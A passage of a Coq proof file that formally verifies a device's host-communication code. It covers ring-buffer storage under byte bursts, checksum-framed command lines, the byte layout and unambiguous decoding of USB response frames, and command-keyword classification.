  pose proof (read_buf_dequeues 10 ltac:(lia) b 3 Hwf ltac:(lia)) as H.
  cbv zeta in H.
  destruct (read_buf (2 ^ 10) b 3) as [[out count] b'].
  destruct H as (Hcount & Hout & Hstored & _).
  split; [rewrite Hcount; vm_compute; reflexivity|].
  split; [rewrite Hout; vm_compute; reflexivity|].
  rewrite Hstored. vm_compute. reflexivity.
Defined.

Lemma read_line_dequeues_line_witness :
  let b := push_all (2 ^ 10) (Buffer_init (2 ^ 10))
             (lit "OK 00000000:3A" ++ [chr_LF] ++ lit "# x") in
  exists b',
    stored (2 ^ 10) b' = lit "# x" /\
    read_line (2 ^ 10) b [] = Some (true, lit "OK 00000000", b').
Proof.
  intros b.
  assert (Hwf : buffer_wf (2 ^ 10) b).
  { unfold buffer_wf. split; [vm_compute; split; [discriminate|reflexivity]|].
    split; [vm_compute; split; [discriminate|reflexivity]|].
    vm_compute. reflexivity. }
  destruct (read_line_dequeues_line 10 ltac:(lia) b (lit "OK 00000000:3A")
              (lit "# x") [] Hwf)
    as (b' & Hstored & _ & _ & _ & _ & _ & Hread).
  - vm_compute. reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - vm_compute. discriminate.
  - exists b'. split; [exact Hstored|]. exact Hread.
Defined.

(** ** The ring buffer under a burst of bytes *)

Section RingBufferBurst.
Variable k : Z.
Hypothesis Hk : 0 <= k < 32.

Local Abbreviation B := (2 ^ k).

Lemma push_all_spec (data : list u8) :
  forall b : Buffer,
    buffer_wf B b ->
    buffer_wf B (push_all B b data) /\
    stored B (push_all B b data)
      = stored B b ++ take (Z.to_nat (B - 1 - read_available B b)) data.
Proof.
  induction data as [|c data IH]; intros b Hwf.
  - cbn [push_all fold_left]. rewrite take_nil, app_nil_r. auto.
  - change (push_all B b (c :: data)) with (push_all B (push B b c) data).
    destruct (read_available_spec k Hk b Hwf) as [Hrange _].
    destruct (push_stored k Hk b c Hwf) as (Hwf1 & Hs & Havail).
    destruct (IH _ Hwf1) as [Hwf' Hstored'].
    split; [exact Hwf'|]. rewrite Hstored', Hs, Havail.
    destruct (Z.ltb_spec (read_available B b) (B - 1)) as [Hroom|Hfull].
    + rewrite <- app_assoc.
      replace (Z.to_nat (B - 1 - read_available B b))
        with (S (Z.to_nat (B - 1 - (read_available B b + 1)))) by lia.
      reflexivity.
    + rewrite app_nil_r.
      replace (Z.to_nat (B - 1 - read_available B b)) with 0%nat by lia.
      rewrite !take_0. reflexivity.
Qed.

(** X4: a burst of bytes pushed with no read in between is stored up to
    the free room, in order, and everything after that is dropped: the
    stored bytes become the old ones followed by the first
    [BufferSize - 1 - available] bytes of the burst, and the number held
    goes up by the length of the burst but stops at [BufferSize - 1]. *)
Theorem push_all_keeps_what_fits (data : list u8) :
  forall b : Buffer,
    buffer_wf B b ->
    buffer_wf B (push_all B b data) /\
    stored B (push_all B b data)
      = stored B b ++ take (Z.to_nat (B - 1 - read_available B b)) data /\
    read_available B (push_all B b data)
      = Z.min (B - 1) (read_available B b + Z.of_nat (length data)).
Proof.
  intros b Hwf. destruct (push_all_spec data b Hwf) as [Hwf' Hstored].
  split; [exact Hwf'|]. split; [exact Hstored|].
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  destruct (read_available_spec k Hk _ Hwf') as [Hrange' _].
  pose proof (length_stored k (push_all B b data)) as Hlen'.
  pose proof (length_stored k b) as Hlen.
  rewrite Hstored, length_app, length_take, Hlen in Hlen'. lia.
Qed.

Lemma push_all_ok (data : list u8) :
  forall b : Buffer,
    buffer_ok B b ->
    read_available B b + Z.of_nat (length data) <= B - 1 ->
    buffer_ok B (push_all B b data).
Proof.
  induction data as [|c data IH]; intros b Hok Hroom; [exact Hok|].
  change (push_all B b (c :: data)) with (push_all B (push B b c) data).
  pose proof Hok as [Hwf _]. cbn [length] in Hroom.
  destruct (push_stored k Hk b c Hwf) as (_ & _ & Havail1).
  destruct (Z.ltb_spec (read_available B b) (B - 1)) as [_|Hfull]; [|lia].
  apply IH.
  - apply (push_ok k Hk); [exact Hok|]. left.
    pose proof (push_full_test k Hk b Hwf) as Htest.
    destruct (Z.eqb_spec (add B (wpos b) 1) (rpos b)) as [Heq|Hne]; [|exact Hne].
    symmetry in Htest. apply Z.eqb_eq in Htest. lia.
  - rewrite Havail1. lia.
Qed.

(** X7: the four consumer and producer operations keep the buffer well
    formed with an exact newline counter, and so never hold more than
    [BufferSize - 1] bytes; the one exception is a [push] of a newline
    into a full buffer. *)
Theorem buffer_ok_kept (b : Buffer) :
  buffer_ok B b ->
  read_available B b <= B - 1 /\
  buffer_ok B (clear b) /\
  (forall len, buffer_ok B (read_buf B b len).2) /\
  (forall line ret out b',
     read_line B b line = Some (ret, out, b') -> buffer_ok B b') /\
  (forall c,
     read_available B b < B - 1 \/ c <> chr_LF -> buffer_ok B (push B b c)).
Proof.
  intros Hok. pose proof Hok as [Hwf _].
  split; [apply (read_available_spec k Hk b Hwf)|].
  split; [apply (clear_ok k Hk), Hwf|].
  split; [intros len; apply (read_buf_ok k Hk), Hok|].
  split; [intros line ret out b' H; exact (read_line_ok k Hk _ _ _ _ _ Hok H)|].
  intros c Hcase. apply (push_ok k Hk); [exact Hok|].
  destruct Hcase as [Hroom|Hc]; [left|right; exact Hc].
  pose proof (push_full_test k Hk b Hwf) as Htest.
  destruct (Z.eqb_spec (add B (wpos b) 1) (rpos b)) as [Heq|Hne]; [|exact Hne].
  symmetry in Htest. apply Z.eqb_eq in Htest. lia.
Qed.

End RingBufferBurst.

Lemma push_all_keeps_what_fits_witness :
  stored (2 ^ 2) (push_all (2 ^ 2) (Buffer_init (2 ^ 2)) (lit "abcde"))
    = lit "abc".
Proof.
  destruct (push_all_keeps_what_fits 2 ltac:(lia) (lit "abcde")
              (Buffer_init (2 ^ 2))) as (_ & Hstored & _).
  - unfold buffer_wf. vm_compute. repeat split; discriminate.
  - rewrite Hstored. vm_compute. reflexivity.
Defined.

Lemma buffer_ok_kept_witness :
  buffer_ok (2 ^ 10) (clear (push (2 ^ 10) (Buffer_init (2 ^ 10)) chr_LF)).
Proof.
  assert (Hok : buffer_ok (2 ^ 10) (push (2 ^ 10) (Buffer_init (2 ^ 10)) chr_LF)).
  { apply (buffer_ok_kept 10 ltac:(lia) (Buffer_init (2 ^ 10))
             (Buffer_init_ok 10 ltac:(lia))).
    left. vm_compute. reflexivity. }
  apply (buffer_ok_kept 10 ltac:(lia) _ Hok).
Defined.

(** ** Command framing against [validate_line] *)

Lemma checksum_fold (buf : str) :
  forall acc, 0 <= acc < 256 ->
    fold_left (fun csum b => (csum + Z_of_u8 b) mod 256) buf acc
      = (acc + checksum buf) mod 256.
Proof.
  induction buf as [|b buf IH]; intros acc Hacc.
  - cbn [fold_left]. change (checksum []) with 0.
    rewrite Z.add_0_r, Z.mod_small by exact Hacc. reflexivity.
  - unfold checksum. cbn [fold_left].
    rewrite !IH by (apply Z.mod_pos_bound; lia).
    rewrite Z.add_0_l, !Zplus_mod_idemp_l, Zplus_mod_idemp_r.
    f_equal. lia.
Qed.

(** X5: the checksum of a concatenation is the sum of the checksums
    modulo 256, so it does not depend on the order of the two parts:
    swapping pieces of a line is not seen by the checksum. *)
Theorem checksum_app (a b : str) :
  checksum (a ++ b) = (checksum a + checksum b) mod 256 /\
  checksum (a ++ b) = checksum (b ++ a).
Proof.
  assert (Happ : forall x y : str,
            checksum (x ++ y) = (checksum x + checksum y) mod 256).
  { intros x y. unfold checksum at 1. rewrite fold_left_app. fold (checksum x).
    apply checksum_fold, checksum_range. }
  split; [apply Happ|]. rewrite !Happ. f_equal. lia.
Qed.

Lemma format_0X_2 (v : Z) :
  format_0X 2 v
    = [hex_upper_digit ((v / 16) mod 16); hex_upper_digit (v mod 16)].
Proof.
  rewrite !format_0X_S. change (format_0X 0 v) with (@nil ascii).
  change (16 ^ Z.of_nat 1) with 16. change (16 ^ Z.of_nat 0) with 1.
  rewrite Z.div_1_r. reflexivity.
Qed.

Lemma checksum_suffix_format (cmdline : str) :
  checksum_suffix cmdline
    (hex_upper_digit ((checksum cmdline / 16) mod 16))
    (hex_upper_digit (checksum cmdline mod 16)).
Proof.
  pose proof (checksum_range cmdline) as Hc.
  exists ((checksum cmdline / 16) mod 16), (checksum cmdline mod 16).
  split; [apply hex_digit_upper, Z.mod_pos_bound; lia|].
  split; [apply hex_digit_upper, Z.mod_pos_bound; lia|].
  rewrite (Z.mod_small (checksum cmdline / 16)).
  - symmetry. apply Z.div_mod. lia.
  - split; [apply Z.div_pos; lia|]. apply Z.div_lt_upper_bound; lia.
Qed.

Lemma validate_line_accepts_cmd_frame_body (cmdline : str) :
  validate_line ([] ++ cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline))
    = Some (true, cmdline).
Proof.
  rewrite format_0X_2.
  pose proof (checksum_suffix_format cmdline) as Hsuffix.
  set (h := hex_upper_digit ((checksum cmdline / 16) mod 16)) in *.
  set (l := hex_upper_digit (checksum cmdline mod 16)) in *.
  apply (validate_line_accepts _ cmdline h l).
  - destruct cmdline; discriminate.
  - change ([] ++ cmdline ++ [chr_colon] ++ [h; l])
      with (cmdline ++ [chr_colon; h; l]).
    change (cmdline ++ [chr_colon; h; l]) with (cmdline ++ [chr_colon; h] ++ [l]).
    rewrite app_assoc. apply strip_trailing_crlf_keep.
    destruct Hsuffix as (hv & lv & _ & Hl & _).
    exact (hex_digit_not_crlf _ _ Hl).
  - exact Hsuffix.
Qed.

(** X6: what [cmd_send] appends is what [validate_line] checks. For every
    command text, the text followed by the colon and the two checksum
    digits [cmd_send] formats, and then by any run of CR and LF, is
    accepted by [validate_line], which leaves exactly the command text. *)
Theorem validate_line_accepts_cmd_frame (cmdline tail : str) :
  Forall (fun c => is_crlf c = true) tail ->
  validate_line (cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline) ++ tail)
    = Some (true, cmdline).
Proof.
  intros Htail. rewrite format_0X_2.
  pose proof (checksum_suffix_format cmdline) as Hsuffix.
  set (h := hex_upper_digit ((checksum cmdline / 16) mod 16)) in *.
  set (l := hex_upper_digit (checksum cmdline mod 16)) in *.
  apply (validate_line_accepts _ cmdline h l).
  - destruct cmdline; discriminate.
  - change (cmdline ++ [chr_colon] ++ [h; l] ++ tail)
      with (cmdline ++ [chr_colon; h; l] ++ tail).
    rewrite app_assoc, strip_trailing_crlf_app by exact Htail.
    change (cmdline ++ [chr_colon; h; l]) with (cmdline ++ [chr_colon; h] ++ [l]).
    rewrite app_assoc. apply strip_trailing_crlf_keep.
    destruct Hsuffix as (hv & lv & _ & Hl & _).
    exact (hex_digit_not_crlf _ _ Hl).
  - exact Hsuffix.
Qed.

Lemma validate_line_accepts_cmd_frame_witness :
  validate_line (lit "version" ++ [chr_colon]
                   ++ format_0X 2 (checksum (lit "version")) ++ [chr_CR])
    = Some (true, lit "version").
Proof.
  apply (validate_line_accepts_cmd_frame (lit "version") [chr_CR]).
  repeat constructor.
Defined.

(** ** An echoed command, from the wire to [read_line] *)

Section EchoedCommand.
Variable k : Z.
Hypothesis Hk : 0 <= k < 32.

Local Abbreviation B := (2 ^ k).

Lemma cmd_frame_split (cmdline : str) :
  cmd_frame cmdline
    = (cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline)) ++ [chr_LF].
Proof. unfold cmd_frame. rewrite <- !app_assoc. reflexivity. Qed.

Lemma cmd_frame_body_no_newline (cmdline : str) :
  chr_LF ∉ cmdline ->
  chr_LF ∉ cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline).
Proof.
  intros Hno. rewrite format_0X_2.
  destruct (checksum_suffix_format cmdline) as (hv & lv & Hh & Hl & _).
  apply hex_digit_not_crlf in Hh, Hl. unfold is_crlf in Hh, Hl.
  apply orb_false_iff in Hh as [_ Hh]. apply orb_false_iff in Hl as [_ Hl].
  apply chr_eqb_neq in Hh, Hl.
  intros Hin. apply elem_of_app in Hin as [Hin|Hin]; [exact (Hno Hin)|].
  apply elem_of_cons in Hin as [Hin|Hin]; [discriminate|].
  apply elem_of_cons in Hin as [Hin|Hin]; [congruence|].
  apply list_elem_of_singleton in Hin. congruence.
Qed.

(** X8: a command echoed back byte for byte is read back as sent. When
    the bytes [cmd_send] wrote for a newline-free command arrive, through
    [push], in an empty buffer with room for them, the next [read_line]
    returns true with exactly the command text and leaves the buffer
    empty, the counter exact. *)
Theorem echoed_command_is_read_back (b : Buffer) (cmdline : str) :
  buffer_ok B b ->
  stored B b = [] ->
  chr_LF ∉ cmdline ->
  Z.of_nat (length (cmd_frame cmdline)) <= B - 1 ->
  exists b',
    read_line B (push_all B b (cmd_frame cmdline)) []
      = Some (true, cmdline, b') /\
    stored B b' = [] /\ buffer_ok B b'.
Proof.
  intros Hok Hempty Hno Hfits. pose proof Hok as [Hwf _].
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  assert (Havail : read_available B b = 0).
  { pose proof (length_stored k b) as Hlen. rewrite Hempty in Hlen.
    cbn in Hlen. lia. }
  pose proof (push_all_ok k Hk (cmd_frame cmdline) b Hok ltac:(lia)) as Hok1.
  destruct (push_all_spec k Hk (cmd_frame cmdline) b Hwf)
    as [Hwf1 Hstored1].
  rewrite Hempty, Havail, take_ge, app_nil_l in Hstored1 by lia.
  set (b1 := push_all B b (cmd_frame cmdline)) in *.
  rewrite cmd_frame_split in Hstored1.
  set (line := cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline)) in *.
  assert (Hnl : num_newlines b1 <> 0).
  { destruct Hok1 as [_ Hcount]. rewrite Hcount, Hstored1.
    rewrite count_newlines_app, count_newlines_cons, count_newlines_nil.
    pose proof (count_newlines_nonneg line).
    change (chr_eqb chr_LF chr_LF) with true. lia. }
  destruct (read_line_spec k Hk b1 line [] [] Hwf1 Hstored1
              (cmd_frame_body_no_newline cmdline Hno) Hnl)
    as (b' & Hstored' & _ & _ & _ & _ & Hread).
  exists b'.
  assert (Hvalid : validate_line ([] ++ line) = Some (true, cmdline)).
  { pose proof (validate_line_accepts_cmd_frame_body cmdline) as H. exact H. }
  rewrite Hvalid in Hread.
  split; [exact Hread|]. split; [exact Hstored'|].
  exact (read_line_ok k Hk _ _ _ _ _ Hok1 Hread).
Qed.

End EchoedCommand.

Lemma echoed_command_is_read_back_witness :
  exists b',
    read_line (2 ^ 10)
      (push_all (2 ^ 10) (Buffer_init (2 ^ 10)) (cmd_frame (lit "getserialno")))
      [] = Some (true, lit "getserialno", b').
Proof.
  destruct (echoed_command_is_read_back 10 ltac:(lia) (Buffer_init (2 ^ 10))
              (lit "getserialno")) as (b' & Hread & _).
  - apply Buffer_init_ok. lia.
  - reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - vm_compute. discriminate.
  - exists b'. exact Hread.
Defined.

(** ** The binary frame for the host *)

Lemma le32_spec (v : Z) :
  le32 v = [u8_of_Z v; u8_of_Z (v / 256); u8_of_Z (v / 256 / 256);
            u8_of_Z (v / 256 / 256 / 256)].
Proof.
  unfold le32. cbn [seq map].
  change (8 * Z.of_nat 0) with 0. change (8 * Z.of_nat 1) with 8.
  change (8 * Z.of_nat 2) with 16. change (8 * Z.of_nat 3) with 24.
  rewrite Z.shiftr_0_r, !Z.shiftr_div_pow2 by lia.
  rewrite !Z.div_div by lia. reflexivity.
Qed.

(** The four bytes [memcpy] writes for a 32-bit value determine it. *)
Lemma le32_value_le32 (v : Z) : 0 <= v < 2 ^ 32 -> le32_value (le32 v) = v.
Proof.
  intros Hv. rewrite le32_spec. unfold le32_value. cbn [fold_right].
  rewrite !Z_of_u8_of_Z.
  assert (H3 : 0 <= v / 256 / 256 / 256 < 256).
  { rewrite !Z.div_div by lia. split; [apply Z.div_pos; lia|].
    apply Z.div_lt_upper_bound; lia. }
  rewrite (Z.mod_small (v / 256 / 256 / 256)) by exact H3.
  pose proof (Z.div_mod v 256 ltac:(lia)).
  pose proof (Z.div_mod (v / 256) 256 ltac:(lia)).
  pose proof (Z.div_mod (v / 256 / 256) 256 ltac:(lia)).
  lia.
Qed.

Lemma length_le32 (v : Z) : length (le32 v) = 4%nat.
Proof. reflexivity. Qed.

(** Copying into the zeroed tail of a buffer, right behind what has been
    written so far. *)
Lemma memcpy_fresh (pre src : list u8) (n off : nat) :
  off = length pre ->
  memcpy (pre ++ replicate n zero) off src
    = (pre ++ src) ++ replicate (n - length src) zero.
Proof.
  intros ->. unfold memcpy.
  rewrite take_app_length, drop_app_add' by reflexivity.
  rewrite drop_replicate, <- app_assoc. reflexivity.
Qed.

Lemma to_usb_response_bytes (r : Result) :
  Z.of_nat (length (response_ r)) < 2 ^ 32 - 9 ->
  to_usb_response r
    = [u8_of_Z (ResultType_value (type_ r))]
        ++ le32 (Z.of_nat (length ((if is_ok_or_ng r then le32 (status_ r) else [])
                                     ++ response_ r)))
        ++ (if is_ok_or_ng r then le32 (status_ r) else []) ++ response_ r.
Proof.
  intros Hlen. unfold to_usb_response, size_wrap.
  set (tag := u8_of_Z (ResultType_value (type_ r))).
  set (L := length (response_ r)) in *.
  destruct (is_ok_or_ng r).
  - rewrite (Z.mod_small (_ + 4)) by lia.
    rewrite (Z.mod_small (1 + 4 + _)) by lia.
    rewrite length_app, length_le32. fold L.
    replace (Z.of_nat (4 + L)) with (Z.of_nat L + 4) by lia.
    set (ln := le32 (Z.of_nat L + 4)). set (st := le32 (status_ r)).
    replace (Z.to_nat (1 + 4 + (Z.of_nat L + 4))) with (9 + L)%nat by lia.
    rewrite <- (app_nil_l (replicate (9 + L) zero)).
    rewrite (memcpy_fresh [] [tag]) by reflexivity.
    rewrite (memcpy_fresh ([] ++ [tag]) ln) by reflexivity.
    rewrite (memcpy_fresh (([] ++ [tag]) ++ ln) st) by reflexivity.
    rewrite (memcpy_fresh ((([] ++ [tag]) ++ ln) ++ st) (response_ r))
      by reflexivity.
    unfold ln at 2, st at 2. rewrite !length_le32. fold L.
    cbn [length]. replace (9 + L - 1 - 4 - 4 - L)%nat with 0%nat by lia.
    cbn [replicate]. rewrite app_nil_r, app_nil_l, <- !app_assoc. reflexivity.
  - rewrite (Z.mod_small (1 + 4 + _)) by lia.
    rewrite app_nil_l. fold L. set (ln := le32 (Z.of_nat L)).
    replace (Z.to_nat (1 + 4 + Z.of_nat L)) with (5 + L)%nat by lia.
    rewrite <- (app_nil_l (replicate (5 + L) zero)).
    rewrite (memcpy_fresh [] [tag]) by reflexivity.
    rewrite (memcpy_fresh ([] ++ [tag]) ln) by reflexivity.
    rewrite (memcpy_fresh (([] ++ [tag]) ++ ln) (response_ r)) by reflexivity.
    unfold ln at 2. rewrite !length_le32. fold L.
    cbn [length]. replace (5 + L - 1 - 4 - L)%nat with 0%nat by lia.
    cbn [replicate]. rewrite app_nil_r, app_nil_l, <- !app_assoc. reflexivity.
Qed.

(** X9: the frame is the type tag, the 4-byte little-endian length, the
    4-byte little-endian status for Ok and Ng only, and the payload; the
    length field counts every byte after it (status included). *)
Theorem to_usb_response_layout (r : Result) :
  Z.of_nat (length (response_ r)) < 2 ^ 32 - 9 ->
  let okng_status := if is_ok_or_ng r then le32 (status_ r) else [] in
  to_usb_response r
    = [u8_of_Z (ResultType_value (type_ r))]
        ++ le32 (Z.of_nat (length (okng_status ++ response_ r)))
        ++ okng_status ++ response_ r /\
  le32_value (take 4 (drop 1 (to_usb_response r)))
    = Z.of_nat (length (drop 5 (to_usb_response r))).
Proof.
  intros Hlen okng_status.
  pose proof (to_usb_response_bytes r Hlen) as Hbytes. fold okng_status in Hbytes.
  split; [exact Hbytes|]. rewrite Hbytes.
  set (body := okng_status ++ response_ r).
  assert (Hbody : Z.of_nat (length body) < 2 ^ 32).
  { unfold body, okng_status. rewrite length_app.
    destruct (is_ok_or_ng r); [rewrite length_le32|]; cbn [length]; lia. }
  change ([u8_of_Z (ResultType_value (type_ r))] ++ le32 (Z.of_nat (length body)) ++ body)
    with ([u8_of_Z (ResultType_value (type_ r))] ++ (le32 (Z.of_nat (length body)) ++ body)).
  rewrite (drop_app_length' [_] _ 1) by reflexivity.
  rewrite take_app_length' by reflexivity.
  rewrite le32_value_le32 by lia.
  rewrite (app_assoc [_]).
  rewrite (drop_app_length' _ body 5) by reflexivity. reflexivity.
Qed.

Lemma to_usb_response_layout_witness :
  to_usb_response (new_ng StatusCode.kEmcInReset (lit "x"))
    = bytes [5; 5; 0; 0; 0; 0x00; 0x00; 0xad; 0xde; 0x78].
Proof.
  destruct (to_usb_response_layout (new_ng StatusCode.kEmcInReset (lit "x")))
    as [Hlayout _].
  - cbn. lia.
  - rewrite Hlayout. vm_compute. reflexivity.
Defined.

Lemma ResultType_value_inj (t1 t2 : ResultType) :
  u8_of_Z (ResultType_value t1) = u8_of_Z (ResultType_value t2) -> t1 = t2.
Proof. destruct t1, t2; intros H; try reflexivity; vm_compute in H; discriminate. Qed.

Lemma le32_inj (v w : Z) :
  0 <= v < 2 ^ 32 -> 0 <= w < 2 ^ 32 -> le32 v = le32 w -> v = w.
Proof.
  intros Hv Hw H. rewrite <- (le32_value_le32 v Hv), <- (le32_value_le32 w Hw), H.
  reflexivity.
Qed.

(** X10: the frame determines the result. Two results as the constructors
    build them (32-bit status for Ok and Ng, the invalid-status sentinel
    otherwise) that have the same frame are equal, so the host can decode
    a frame without ambiguity. *)
Theorem to_usb_response_injective (r1 r2 : Result) :
  Result_wf r1 -> Result_wf r2 ->
  Z.of_nat (length (response_ r1)) < 2 ^ 32 - 9 ->
  Z.of_nat (length (response_ r2)) < 2 ^ 32 - 9 ->
  to_usb_response r1 = to_usb_response r2 ->
  r1 = r2.
Proof.
  intros Hwf1 Hwf2 Hlen1 Hlen2 Heq.
  rewrite (to_usb_response_bytes r1 Hlen1), (to_usb_response_bytes r2 Hlen2) in Heq.
  apply app_inj_1 in Heq as [Htag Hrest]; [|reflexivity].
  injection Htag as Htag. apply ResultType_value_inj in Htag.
  apply app_inj_1 in Hrest as [_ Hbody]; [|rewrite !length_le32; reflexivity].
  destruct r1 as [t1 st1 resp1], r2 as [t2 st2 resp2].
  unfold Result_wf, is_ok_or_ng, is_ok, is_ng in *. cbn [type_ status_ response_] in *.
  subst t2.
  destruct t1; cbn [orb] in *;
    try (cbn [app] in Hbody; subst; reflexivity);
    (apply app_inj_1 in Hbody as [Hst Hresp]; [|rewrite !length_le32; reflexivity];
     apply le32_inj in Hst; [subst; reflexivity|assumption|assumption]).
Qed.

Lemma to_usb_response_injective_witness :
  Result_wf (new_ng StatusCode.kEmcInReset (lit "x")) /\
  new_ng StatusCode.kEmcInReset (lit "x")
    = mkResult kNg StatusCode.kEmcInReset [u8_of_Z 120].
Proof.
  assert (Hwf : Result_wf (new_ng StatusCode.kEmcInReset (lit "x"))).
  { unfold Result_wf. vm_compute. split; [discriminate|reflexivity]. }
  split; [exact Hwf|].
  apply (to_usb_response_injective _ _ Hwf).
  - unfold Result_wf. vm_compute. split; [discriminate|reflexivity].
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

(** ** Host command classification *)

Lemma starts_with_take (s p : str) :
  starts_with s p = true -> take (length p) s = p.
Proof.
  intros H. apply starts_with_inv in H. rewrite H at 1.
  rewrite take_app_le by lia. apply take_ge. lia.
Qed.

Lemma starts_with_both (s p q : str) :
  starts_with s p = true -> starts_with s q = true ->
  take (length q) p = take (length p) q.
Proof.
  intros Hp Hq. apply starts_with_take in Hp, Hq.
  rewrite <- Hp at 1. rewrite <- Hq at 2.
  rewrite !take_take. f_equal. lia.
Qed.

(** X11: no control keyword is a prefix of another, so the order of the
    tests in [parse_command_type] does not matter: a command gets a
    control type exactly when it starts with that type's keyword, whatever
    [in_rom_] is, and every other command is passthrough, to the ROM when
    [in_rom_] is set and to the controller otherwise. *)
Theorem parse_command_type_by_keyword (in_rom_ : bool) (cmd : str) :
  (forall kw t, (kw, t) ∈ control_keywords ->
     (parse_command_type in_rom_ cmd = t <-> starts_with cmd kw = true)) /\
  ((forall kw t, (kw, t) ∈ control_keywords -> starts_with cmd kw = false) ->
     parse_command_type in_rom_ cmd
       = if in_rom_ then kPassthroughRom else kPassthroughUcmd).
Proof.
  assert (Hexcl : forall p q : str,
            take (length q) p <> take (length p) q ->
            starts_with cmd p = true -> starts_with cmd q = true -> False).
  { intros p q Hne Hp Hq. exact (Hne (starts_with_both cmd p q Hp Hq)). }
  split.
  - intros kw t Hin. unfold control_keywords in Hin.
    unfold parse_command_type.
    destruct (starts_with cmd (lit "unlock")) eqn:E1;
    destruct (starts_with cmd (lit "picoreset")) eqn:E2;
    destruct (starts_with cmd (lit "picoemcreset")) eqn:E3;
    destruct (starts_with cmd (lit "picoemcrom")) eqn:E4;
    destruct (starts_with cmd (lit "picofwconst")) eqn:E5;
    destruct (starts_with cmd (lit "picochipconst")) eqn:E6;
    try (exfalso;
         match goal with
         | Ha : starts_with cmd ?p = true, Hb : starts_with cmd ?q = true |- _ =>
             apply (Hexcl p q); [vm_compute; discriminate|exact Ha|exact Hb]
         end);
    repeat (apply elem_of_cons in Hin as [Hin|Hin];
            [pose proof (f_equal fst Hin) as Hkw; pose proof (f_equal snd Hin) as Ht;
             cbn [fst snd] in Hkw, Ht; subst kw t;
             rewrite ?E1, ?E2, ?E3, ?E4, ?E5, ?E6;
             split; intros H; try reflexivity; try discriminate H;
             destruct in_rom_; discriminate H|]);
    apply elem_of_nil in Hin; destruct Hin.
  - intros Hnone. unfold parse_command_type.
    rewrite (Hnone (lit "unlock") kUnlock), (Hnone (lit "picoreset") kPicoReset),
      (Hnone (lit "picoemcreset") kEmcReset), (Hnone (lit "picoemcrom") kEmcRom),
      (Hnone (lit "picofwconst") kSetFwConsts),
      (Hnone (lit "picochipconst") kSetChipConsts);
      [reflexivity|unfold control_keywords; set_solver..].
Qed.

Lemma parse_command_type_by_keyword_witness :
  parse_command_type true (lit "picoemcrom exit") = kEmcRom.
Proof.
  apply (proj1 (parse_command_type_by_keyword true (lit "picoemcrom exit"))
           (lit "picoemcrom") kEmcRom).
  - unfold control_keywords.
    repeat first [apply list_elem_of_here | apply list_elem_of_further].
  - reflexivity.
Defined.

(** ** Parsing and formatting results *)

Lemma hex_value_bound (digits : str) :
  forall acc v,
    hex_value acc digits = Some v -> 0 <= acc ->
    acc * 16 ^ Z.of_nat (length digits) <= v
      < (acc + 1) * 16 ^ Z.of_nat (length digits).
Proof.
  induction digits as [|c digits IH]; intros acc v Hv Hacc.
  - simpl in Hv. injection Hv as <-. simpl. lia.
  - cbn [hex_value] in Hv. destruct (hex_digit c) as [d|] eqn:Hd; [|discriminate].
    apply hex_digit_range in Hd.
    specialize (IH _ _ Hv ltac:(lia)).
    cbn [length]. rewrite Nat2Z.inj_succ, Z.pow_succ_r by lia.
    assert (0 < 16 ^ Z.of_nat (length digits)) by (apply Z.pow_pos_nonneg; lia).
    nia.
Qed.

(** The four ways [from_str] can go. *)
Lemma from_str_cases (s : str) :
  (exists p, p <> [] /\ s = lit "# " ++ p /\
             from_str s = mkResult kComment kInvalidStatus p) \/
  (exists p, p <> [] /\ s = lit "$$ " ++ p /\
             from_str s = mkResult kInfo kInvalidStatus p) \/
  (exists (ok : bool) (h rest : str) (v : Z),
      length h = 8%nat /\ hex_value 0 h = Some v /\
      (rest = [] \/ exists p, rest = chr_space :: p) /\
      s = (if ok then lit "OK " else lit "NG ") ++ h ++ rest /\
      from_str s = mkResult (if ok then kOk else kNg) v (drop 1 rest)) \/
  from_str s = new_unknown s.
Proof.
  assert (Hstatus : status_line s ->
    exists (ok : bool) (h rest : str) (v : Z),
      length h = 8%nat /\ hex_value 0 h = Some v /\
      (rest = [] \/ exists p, rest = chr_space :: p) /\
      s = (if ok then lit "OK " else lit "NG ") ++ h ++ rest /\
      from_str s = mkResult (if ok then kOk else kNg) v (drop 1 rest)).
  { intros (ok & h & rest & v & Hlen & Hv & Hrest & ->).
    exists ok, h, rest, v. repeat (split; [assumption || reflexivity|]).
    apply from_str_status_line; assumption. }
  destruct ((2 <? length s)%nat && starts_with s (lit "# ")) eqn:E1.
  { left. apply andb_true_iff in E1 as [Hlen Hpre].
    apply Nat.ltb_lt in Hlen. apply starts_with_inv in Hpre.
    assert (Hne : drop 2 s <> []).
    { intros Hnil. apply (f_equal length) in Hnil.
      rewrite length_drop in Hnil. simpl in Hnil. lia. }
    exists (drop 2 s). split; [exact Hne|]. split; [exact Hpre|].
    rewrite Hpre at 1. apply from_str_comment, Hne. }
  destruct ((3 <? length s)%nat && starts_with s (lit "$$ ")) eqn:E2.
  { right. left. apply andb_true_iff in E2 as [Hlen Hpre].
    apply Nat.ltb_lt in Hlen. apply starts_with_inv in Hpre.
    assert (Hne : drop 3 s <> []).
    { intros Hnil. apply (f_equal length) in Hnil.
      rewrite length_drop in Hnil. simpl in Hnil. lia. }
    exists (drop 3 s). split; [exact Hne|]. split; [exact Hpre|].
    rewrite Hpre at 1. apply from_str_info, Hne. }
  assert (Hbody : from_str s
    = if (length s <? 2 + 1 + 8)%nat then new_unknown s
      else if negb (starts_with s (lit "OK ")) && negb (starts_with s (lit "NG "))
      then new_unknown s
      else match int_from_hex 4 s (2 + 1) with
           | None => new_unknown s
           | Some status =>
               if (2 + 1 + 8 <? length s)%nat then
                 if negb (chr_eqb (nth (2 + 1 + 8) s zero) chr_space)
                 then new_unknown s
                 else mkResult (if starts_with s (lit "OK ") then kOk else kNg)
                               status (drop (2 + 1 + 8 + 1) s)
               else mkResult (if starts_with s (lit "OK ") then kOk else kNg)
                             status []
           end).
  { unfold from_str. rewrite E1, E2. reflexivity. }
  destruct (length s <? 2 + 1 + 8)%nat eqn:E3; [right; right; right; exact Hbody|].
  destruct (int_from_hex 4 s (2 + 1)) as [v|] eqn:E4.
  2:{ right. right. right. rewrite Hbody.
